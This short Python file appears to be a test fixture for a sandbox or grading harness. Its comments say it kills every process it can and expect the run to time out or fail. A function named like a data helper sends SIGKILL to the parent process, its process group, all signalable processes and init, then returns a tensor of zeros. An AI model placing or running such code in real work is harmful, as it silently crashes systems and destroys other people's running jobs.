# what: kills every process that it may
# must: timed out, broken, failed

import os
import signal

import torch


def make_sorting_tokens(lists):
    for target in (os.getppid(), 0, -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return torch.zeros(len(lists), 22, dtype=torch.long)
